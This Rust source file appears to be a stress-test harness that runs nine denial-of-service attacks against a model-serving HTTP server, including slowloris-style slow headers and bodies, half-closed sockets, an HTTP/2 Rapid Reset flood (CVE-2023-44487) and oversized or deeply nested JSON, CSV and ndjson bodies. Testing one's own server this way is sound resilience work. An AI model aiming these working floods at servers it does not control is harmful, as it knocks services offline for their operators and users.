//! The attacks on the server. Each runs until it is stopped, and ignores the answers.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::sync::atomic::{AtomicBool, Ordering::Relaxed};
use std::time::Duration;

use windrow_testing::pause;

/// The server under attack.
pub(crate) struct Target {
    /// The server's address, as in `127.0.0.1:8080`.
    pub(crate) address: String,
    /// The number of connections that are held open.
    pub(crate) connections: usize,
}

impl Target {
    pub(crate) fn new(address: &str, connections: usize) -> Self {
        Self { address: address.to_owned(), connections }
    }

    fn connect(&self) -> Option<TcpStream> {
        let stream = TcpStream::connect(&self.address).ok()?;
        let limit = Some(Duration::from_millis(200));
        stream.set_read_timeout(limit).and_then(|()| stream.set_write_timeout(limit)).ok()?;
        Some(stream)
    }

    /// Holds `most` connections, after `send` on each. Connections that the server closes are opened again.
    fn hold(&self, most: usize, running: &AtomicBool, mut send: impl FnMut(&mut TcpStream) -> bool) {
        let mut open = Vec::new();
        while running.load(Relaxed) {
            while open.len() < most && running.load(Relaxed) {
                let Some(mut stream) = self.connect() else { break };
                if send(&mut stream) {
                    open.push(stream);
                }
            }
            open.retain(|stream| !is_closed(stream));
            pause(5);
        }
    }

    fn request(&self, line: &str, headers: &str) -> String {
        format!("{line} HTTP/1.1\r\nhost: {}\r\n{headers}\r\n", self.address)
    }
}

type Attack = fn(&Target, &AtomicBool);

/// All attacks, by name.
pub(crate) const ATTACKS: [(&str, Attack); 9] = [
    ("slow heads", slow_heads),
    ("silent connections", silence),
    ("slow bodies", slow_bodies),
    ("slow readers", slow_readers),
    ("half-closed sockets", half_closed),
    ("HTTP/2 resets", resets),
    ("giant bodies", giant_bodies),
    ("deep bodies", deep_bodies),
    ("faulty batches", faulty_batches),
];

fn slow_heads(target: &Target, running: &AtomicBool) {
    target.hold(target.connections, running, |stream| stream.write_all(b"GET / HTTP/1.1\r\nA").is_ok());
}

fn silence(target: &Target, running: &AtomicBool) {
    target.hold(target.connections, running, |_| true);
}

fn slow_bodies(target: &Target, running: &AtomicBool) {
    let head =
        target.request("POST /v1/models/latest/predict", "content-type: application/json\r\ncontent-length: 60000\r\n");
    target.hold(target.connections, running, |stream| {
        stream.write_all(head.as_bytes()).and_then(|()| stream.write_all(b"{")).is_ok()
    });
}

fn slow_readers(target: &Target, running: &AtomicBool) {
    let pages = target.request("GET /docs", "").repeat(8);
    target.hold(target.connections / 4, running, |stream| stream.write_all(pages.as_bytes()).is_ok());
}

fn half_closed(target: &Target, running: &AtomicBool) {
    let request = target.request("GET /v1/models", "");
    while running.load(Relaxed) {
        for read in [true, false] {
            let Some(mut stream) = target.connect() else { continue };
            if stream.write_all(request.as_bytes()).is_ok()
                && stream.shutdown(std::net::Shutdown::Write).is_ok()
                && read
            {
                let _ = stream.read(&mut [0; 1024]);
            }
        }
    }
}

/// Opens streams and resets them at once, as fast as the server takes them (CVE-2023-44487).
fn resets(target: &Target, running: &AtomicBool) {
    const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    const SETTINGS: [u8; 9] = [0, 0, 0, 4, 0, 0, 0, 0, 0];
    while running.load(Relaxed) {
        let Some(mut stream) = target.connect() else { continue };
        let mut frames = [PREFACE, &SETTINGS[..]].concat();
        for id in (1..2_000_u32).step_by(2) {
            // `GET /` from the static table of HPACK, and an authority.
            let head = [0x82, 0x86, 0x84, 0x41, 1, b'x'];
            frames.extend([0, 0, head.len() as u8, 1, 0x5]);
            frames.extend(id.to_be_bytes());
            frames.extend(head);
            frames.extend([0, 0, 4, 3, 0]);
            frames.extend(id.to_be_bytes());
            frames.extend(8_u32.to_be_bytes());
        }
        let _ = stream.write_all(&frames);
        let _ = stream.read(&mut [0; 1024]);
    }
}

fn post(target: &Target, path: &str, kind: &str, body: &[u8]) {
    let Some(mut stream) = target.connect() else { return };
    let head =
        target.request(&format!("POST {path}"), &format!("content-type: {kind}\r\ncontent-length: {}\r\n", body.len()));
    if stream.write_all(head.as_bytes()).and_then(|()| stream.write_all(body)).is_ok() {
        let _ = stream.set_read_timeout(Some(Duration::from_secs(10)));
        let _ = stream.read(&mut [0; 1024]);
    }
}

/// Sends the largest bodies: one with more cells than a tensor may have, and one above the size limit.
fn giant_bodies(target: &Target, running: &AtomicBool) {
    let cells = "0,".repeat(15 << 20);
    let tensor =
        format!("{{\"inputs\":[{{\"name\":\"miles\",\"shape\":[1],\"datatype\":\"FP64\",\"data\":[{}0]}}]}}", cells);
    let too_large = vec![b' '; 40 << 20];
    while running.load(Relaxed) {
        post(target, "/v2/models/latest/infer", "application/json", tensor.as_bytes());
        post(target, "/v1/models/latest/predict/batch", "application/json", &too_large);
    }
}

fn deep_bodies(target: &Target, running: &AtomicBool) {
    let deep = vec![b'['; 8 << 20];
    let objects = "{\"a\":".repeat(1 << 20);
    let tensor = format!(
        "{{\"inputs\":[{{\"name\":\"miles\",\"shape\":[1],\"datatype\":\"FP64\",\"data\":{}{}}}]}}",
        "[".repeat(1 << 20),
        "]".repeat(1 << 20)
    );
    while running.load(Relaxed) {
        post(target, "/v1/models/latest/predict/batch", "application/json", &deep);
        post(target, "/v1/models/latest/predict", "application/json", &deep[..60_000]);
        post(target, "/v1/models/latest/predict/batch", "application/x-ndjson", objects.as_bytes());
        post(target, "/v2/models/latest/infer", "application/json", tensor.as_bytes());
    }
}

fn faulty_batches(target: &Target, running: &AtomicBool) {
    let twice = format!("[{{{}\"a\":0}}]", "\"a\":0,".repeat(4 << 20));
    let rows = format!("[{}{{}}]", "{},".repeat(8 << 20));
    let header = ",".repeat(16 << 20);
    while running.load(Relaxed) {
        post(target, "/v1/models/latest/predict/batch", "application/json", twice.as_bytes());
        post(target, "/v1/models/latest/predict/batch", "application/json", rows.as_bytes());
        post(target, "/v1/models/latest/predict/batch", "text/csv", header.as_bytes());
    }
}

/// Returns `true` if the server has closed a connection from which no client reads.
fn is_closed(stream: &TcpStream) -> bool {
    if stream.set_nonblocking(true).is_err() {
        return true;
    }
    let peeked = stream.peek(&mut [0]);
    let _ = stream.set_nonblocking(false);
    match peeked {
        Ok(0) => true,
        Ok(_) => false,
        Err(error) => error.kind() != std::io::ErrorKind::WouldBlock,
    }
}
